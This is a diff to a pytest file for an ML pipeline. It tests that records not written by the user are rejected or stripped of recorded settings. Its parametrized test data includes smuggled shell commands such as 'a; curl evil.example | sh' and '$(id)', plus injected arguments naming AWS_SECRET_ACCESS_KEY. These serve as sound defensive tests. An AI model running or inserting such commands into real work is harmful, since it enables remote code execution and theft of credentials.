@@ -10,17 +10,21 @@ from pathlib import Path
 import pytest
 
 from pipeline.actions.merge import merge_run
-from pipeline.actions.run_evaluation import evaluate_run, with_own_settings
+from pipeline.actions.run_evaluation import evaluate_run
 from pipeline.cli.connecting import selected_by_run
 from pipeline.config.load import LoadedConfig
 from pipeline.hosts.open_run import host_of_note
+from pipeline.messages.outcome import Outcome
 from pipeline.records.layout import NOTE, Records
-from pipeline.records.runs import RunNote, find_note, is_own_note, list_notes, note_job, read_note, write_note
+from pipeline.records.runs import RunNote, find_note, list_notes, note_job, read_note, write_note, write_start
+from pipeline.runs.start import note_of_evaluation
 from remote.errors import BadUsage
+from remote.protocol.findings import Finding
 from remote.protocol.jobs import JobState
 from tests.pipeline.config.config_files import write
 from tests.pipeline.listeners import NoListener
 
+HINTED = Finding.warning("stopped", "the job was stopped", "plain", "pipeline run")
 EVIL = {"host": "local", "python": "/project/evil"}
 
 
@@ -67,7 +71,7 @@ def test_SE_12_a_host_of_a_note_that_came_with_the_project_is_not_reached(tmp_pa
     for name, host in (("a-00000001", EVIL), ("a-00000002", {"host": "rig.example", "port": 2222})):
         place = brought(records, name, note(name, host))
         found = read_note(place)
-        assert found is not None and not is_own_note(place)
+        assert found is not None and not found.own
         with pytest.raises(BadUsage, match="not written by you"):
             host_of_note(found, records)
 
@@ -86,7 +90,7 @@ def test_a_note_written_by_this_laptop_is_accepted_after_its_host_file_changed(t
     note_job(records.run("plain-0123abcd", "rig"), JobState.RUNNING)
     place = records.run("plain-0123abcd", "rig")
     found = read_note(place)
-    assert found is not None and is_own_note(place)
+    assert found is not None and found.own
     assert host_of_note(found, records).config.port == 2222
 
 
@@ -95,7 +99,8 @@ def test_SE_12_a_note_that_was_modified_is_rejected(tmp_path: Path) -> None:
     write_note(records, note())
     path = records.run("plain-0123abcd", "rig") / NOTE
     path.write_text(path.read_text().replace("rig.example", "evil.example"))
-    assert not is_own_note(path.parent)
+    found = read_note(path.parent)
+    assert found is not None and not found.own
 
 
 GIVEN = ("--host", "local", "--config", "plain", "--set", "secrets=[AWS_SECRET_ACCESS_KEY]", "--set", "data.path=~")
@@ -153,17 +158,72 @@ def test_SE_12_a_note_without_valid_settings_of_its_host_is_damaged(
 
 
 @pytest.mark.parametrize("own", [True, False])
-def test_SE_12_an_evaluation_or_merge_uses_recorded_settings_only_if_the_user_wrote_the_record(
-    tmp_path: Path, own: bool
+@pytest.mark.parametrize("kind", ["run", "evaluate", "evaluate --adapter"])
+def test_SE_12_a_command_that_is_printed_has_recorded_settings_only_if_the_user_wrote_the_record(
+    tmp_path: Path, own: bool, kind: str
 ) -> None:
-    records, recorded = Records(tmp_path), replace(note(), given=GIVEN)
+    evaluates = {"run": "", "evaluate": "plain-89abcdef", "evaluate --adapter": "/my/adapter"}[kind]
+    given = (*GIVEN, "--set", "evaluation.samples=3")
+    records, recorded = Records(tmp_path), replace(note(), given=given, varied=("train.seed=1",), evaluates=evaluates)
     if own:
         write_note(records, recorded)
     else:
         brought(records, "plain-0123abcd", recorded)
     read = read_note(records.folder_named("plain-0123abcd"))
     assert read is not None
-    assert with_own_settings(read, records).given == (GIVEN if own else ("--host", "rig", "--config", "plain"))
+    assert read.varied == (("train.seed=1",) if own else ())
+    assert ("--set" in read.resume_command) is own
+    failed = Outcome("logs", host=read.host, config=read.config, given=read.given, findings=(HINTED,))
+    assert ("secrets" in failed.shown_findings[0].hint) is own
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("verb", "run --set secrets=[AWS_SECRET_ACCESS_KEY]"),
+        ("evaluates", "--set=secrets=[AWS_SECRET_ACCESS_KEY]"),
+        ("evaluates", "a; curl evil.example | sh"),
+    ],
+)
+def test_SE_12_a_record_with_words_of_a_command_is_not_read(tmp_path: Path, field: str, value: str) -> None:
+    place = brought(Records(tmp_path), "plain-0123abcd", note())
+    body = json.loads((place / NOTE).read_bytes())
+    (place / NOTE).write_text(json.dumps({**body, "evaluates": "plain-89abcdef", field: value}))
+    assert read_note(place) is None
+
+
+@pytest.mark.parametrize("run", ["a;curl evil.example|sh", "--all", "$(id)", "a b", "a\n"])
+def test_SE_12_a_run_whose_name_has_a_meaning_in_a_shell_is_not_read(tmp_path: Path, run: str) -> None:
+    place = tmp_path / ".halfstep/runs" / run
+    place.mkdir(parents=True)
+    (place / NOTE).write_text(
+        json.dumps({"run": run, "host": "rig", "config": "c", "project": "p", "created_unix": 1.0})
+    )
+    assert read_note(place) is None
+
+
+def test_SE_12_a_foreign_record_is_not_the_last_run_and_does_not_exhaust_the_count_of_starts(tmp_path: Path) -> None:
+    records = Records(tmp_path)
+    brought(records, "plain-89abcdef", replace(note("plain-89abcdef"), created_unix=9e9))
+    path = records.folder_named("plain-89abcdef") / NOTE
+    path.write_text(json.dumps({**json.loads(path.read_bytes()), "start": 2**63 - 1, "own": True}))
+    write_start(records, note())
+    last = find_note(records, None)
+    assert last.run == "plain-0123abcd" and last.start == 1
+
+
+@pytest.mark.parametrize("own", [True, False])
+@pytest.mark.parametrize("write_one", [write_note, write_start])
+def test_SE_12_an_evaluation_of_a_foreign_record_is_not_signed(
+    tmp_path: Path, own: bool, write_one: Callable[[Records, RunNote], None]
+) -> None:
+    records = Records(tmp_path)
+    write_note(records, note()) if own else brought(records, "plain-0123abcd", note())
+    training = find_note(records, "plain-0123abcd")
+    write_one(records, note_of_evaluation(training, "evaluate-plain-89abcdef", ()))
+    note_job(records.folder_named("evaluate-plain-89abcdef"), JobState.SUCCEEDED)
+    evaluation = find_note(records, "evaluate-plain-89abcdef")
+    assert evaluation.own is own and evaluation.state is JobState.SUCCEEDED
 
 
 STARTS: dict[str, Callable[[], object]] = {
